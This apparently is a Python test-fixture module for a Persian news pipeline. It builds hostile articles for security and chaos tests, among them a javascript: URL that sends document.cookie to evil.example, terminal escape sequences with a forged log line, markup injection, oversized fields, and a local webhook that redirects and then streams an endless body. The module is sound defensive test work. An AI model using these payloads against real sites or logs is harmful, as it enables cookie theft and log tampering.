"""Attacks from article content, webhook replies and records, shared by the security tests and the
chaos scenario: hostile articles (:func:`attack_articles`), stories naming a tracked figure, and a
webhook receiver on 127.0.0.1 that redirects, then answers with an endless body."""

from __future__ import annotations

import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

__all__ = ["FIGURE", "FORGED_LINE", "HOSTILE_AGENCY", "HOSTILE_TITLE", "MARKERS", "STORIES", "Receiver",
           "attack_articles", "enrich_budget", "endless_or_redirect", "flat"]

FIGURE = "person/sergey-lavrov"
STORIES = [
    "سرگئی لاوروف وزیر امور خارجه روسیه روز دوشنبه در مسکو با همتای ترکیه‌ای خود دیدار کرد. دو طرف درباره "
    "تجارت دوجانبه و خطوط انتقال گاز گفت‌وگو کردند و لاوروف گفت روابط اقتصادی دو کشور در حال گسترش است.",
    "سرگئی لاوروف در نشست شورای امنیت سازمان ملل در نیویورک درباره بحران غذایی جهان سخنرانی کرد. او خواستار "
    "برداشتن موانع صادرات غلات شد و افزود که کشورهای فقیر بیشترین آسیب را از این بحران دیده‌اند.",
    "وزیر خارجه روسیه سرگئی لاوروف در سفر به پکن با مقامات چینی درباره همکاری‌های فضایی و ساخت ایستگاه ماه "
    "رایزنی کرد. این سفر دو روز به طول انجامید و چند سند همکاری علمی میان دو کشور امضا شد.",
    "سرگئی لاوروف امروز در گفت‌وگو با خبرنگاران در ایروان از برگزاری نمایشگاه کتاب و فرهنگ روسیه در ارمنستان "
    "خبر داد. به گفته او هزاران عنوان کتاب به زبان‌های مختلف در این نمایشگاه عرضه می‌شود.",
    "سرگئی لاوروف در دیدار با رئیس‌جمهور کوبا در هاوانا درباره گردشگری و برقراری پروازهای مستقیم میان دو "
    "کشور گفت‌وگو کرد و گفت گردشگران روس به زودی بیشتر به کوبا سفر خواهند کرد.",
]
#: Stories that no attack article shares (a copy of one would join its alert instead of raising one).
MARKERS = [
    "سرگئی لاوروف روز پنجشنبه در سوچی با وزیر خارجه ازبکستان درباره ساخت راه‌آهن آسیای مرکزی و تعرفه‌های "
    "گمرکی گفت‌وگو کرد و گفت نخستین قطار باری تا پایان سال به راه می‌افتد.",
    "سرگئی لاوروف در پیامی به همایش استادان زبان روسی در قازان از گسترش آموزش این زبان در دانشگاه‌های آفریقا "
    "قدردانی کرد و وعده بورسیه‌های تازه برای دانشجویان داد.",
    "سرگئی لاوروف در گفت‌وگو با یک شبکه تلویزیونی برزیلی درباره همکاری در زمینه داروهای کم‌یاب و واکسن‌های "
    "تازه سخن گفت و از آمادگی مسکو برای تولید مشترک خبر داد.",
]
FORGED_LINE = "[2024-05-01 10:00:00,000] [1] [ERROR] khabar.worker: index deleted"
HOSTILE_AGENCY = f"IRNA\x1b[2J\x1b]0;owned\x07\n{FORGED_LINE}"
HOSTILE_TITLE = "پنجره‌ای به آسمان [/] [link=https://evil.example]اینجا[/link] [bold red]"
SEED_BODY = (Path(__file__).resolve().parent / "data" / "seed-article.txt").read_text(encoding="utf-8")


def flat(n: str, body: str, **fields: object) -> dict[str, object]:
    return {"id": n, "agency": "IRNA", "title": f"خبر شماره {n}", "body": body,
            "published_at": "2024-05-01T10:00:00Z", "language": "fa", **fields}


class Receiver:
    """An HTTP receiver on 127.0.0.1 answering POSTs with ``answer(n)`` (n counts from 0)."""

    def __init__(self, answer: Callable[[int, Any], None]) -> None:
        self.requests: list[bytes] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                outer.requests.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                try:
                    answer(len(outer.requests) - 1, self)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client hung up: what a bounded client does

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()


def endless_or_redirect(target: str, every: int = 0) -> Callable[[int, Any], None]:
    """Answers: a 307 to ``target`` for the first request (and every ``every``-th, when given),
    else 200 with 400 MiB of body, written until the client hangs up."""

    def answer(n: int, handler: Any) -> None:
        if n == 0 or (every and n % every == 0):
            handler.send_response(307)
            handler.send_header("Location", target)
            handler.end_headers()
            return
        handler.send_response(200)
        handler.send_header("Content-Length", str(400 << 20))
        handler.end_headers()
        chunk = b"x" * (1 << 20)
        for _ in range(400):
            handler.wfile.write(chunk)

    return answer


def attack_articles(tag: str = "") -> list[dict[str, object]]:
    """One of each hostile article (raw documents), ids suffixed with ``tag``: two 1.9 MB articles
    (over any small enrichment budget), a 1.1 MB title naming the figure, escape sequences and a
    forged log line in an agency, rich markup in a title and a kicker, a javascript: URL, a 1 MB
    agency (ninjs copyrightholder) and 200 made-up agencies."""
    return [
        *(flat(f"big-{i}{tag}", (SEED_BODY + "\n") * 460) for i in range(2)),  # 1.9 MB each
        flat(f"huge-title{tag}", STORIES[1], title="سرگئی لاوروف در بیشکک " + "الف" * 185_000),  # 1.1 MB title
        flat(f"hostile{tag}", STORIES[2], agency=HOSTILE_AGENCY, title=HOSTILE_TITLE, kicker="روتیتر [/]"),
        {**flat(f"kicker{tag}", "متن خبر درباره بودجه"), "kicker": ["[/]"]},
        flat(f"js-url{tag}", STORIES[4], url="javascript:fetch('//evil.example/'+document.cookie)"),
        {"uri": f"urn:atk:{tag}", "copyrightholder": "A" * 1_000_000,
         "body_text": STORIES[0].replace("لاوروف", "وزیر"), "headlines": [{"value": "خبر"}], "language": "fa"},
        *(flat(f"agency-{i}{tag}", f"خبر کوتاه شماره {i} درباره بازار کتاب تهران.", agency=f"agency-{i}{tag}")
          for i in range(200)),
    ]


def enrich_budget(articles: list[dict[str, Any]]) -> str:
    """``KHABAR_ENRICH_TIMEOUT_S`` for a worker taking ``articles``: between what the slowest article
    that must be indexed and the quickest of the 1.9 MB ones (ids ``big-…``) cost to enrich here,
    measured once in this process, so that the big ones overrun and the others do not however fast
    enrichment becomes. Fails when the two are too close for a budget to tell them apart."""
    import time
    from datetime import datetime, timezone

    import orjson

    from streams.enrich.document import Pipeline, enrich_payload

    pipeline = Pipeline()
    enrich_payload(orjson.dumps(flat("warm-up", STORIES[0])), pipeline, received_at=datetime.now(timezone.utc),
                   max_bytes=2 << 20, require_persian=False)  # the worker's children are warm too
    costs: dict[bool, list[float]] = {True: [], False: []}
    seen: set[bool] = set()
    for doc in articles:
        big = str(doc.get("id", "")).startswith("big-")
        if big in seen and big:
            continue  # one big article is enough (they are alike)
        seen.add(big)
        began = time.perf_counter()
        enrich_payload(orjson.dumps(doc), pipeline, received_at=datetime.now(timezone.utc), max_bytes=2 << 20,
                       require_persian=False)
        costs[big].append(time.perf_counter() - began)
    slowest, quickest_big = max(costs[False]), min(costs[True])
    assert quickest_big > 4 * slowest, (
        f"a 1.9 MB article costs {quickest_big:.2f} s to enrich and an article that must be indexed "
        f"{slowest:.2f} s: too close for a budget to separate; make the big articles bigger or denser")
    return f"{max(0.1, (slowest * quickest_big) ** 0.5):.2f}"


def limit_alert_topics(bootstrap: str, settings: Any) -> None:
    """Give the alert path's topics (mentions, alerts) Kafka's default 1 MB message limit, as
    docker-compose's broker does, creating the mentions topic (before a worker does) if need be."""
    from kafka import KafkaAdminClient
    from kafka.admin import ConfigResource, ConfigResourceType, NewTopic
    from kafka.errors import TopicAlreadyExistsError

    from streams.alerts.store import mentions_topic

    limit = {"max.message.bytes": "1048588"}
    admin = KafkaAdminClient(bootstrap_servers=bootstrap)
    try:
        for name, partitions in ((mentions_topic(settings), settings.partitions), (settings.alerts_topic, 1)):
            try:
                admin.create_topics([NewTopic(name, partitions, 1, topic_configs=limit)])
            except TopicAlreadyExistsError:
                admin.alter_configs([ConfigResource(ConfigResourceType.TOPIC, name, configs=limit)])
    finally:
        admin.close()
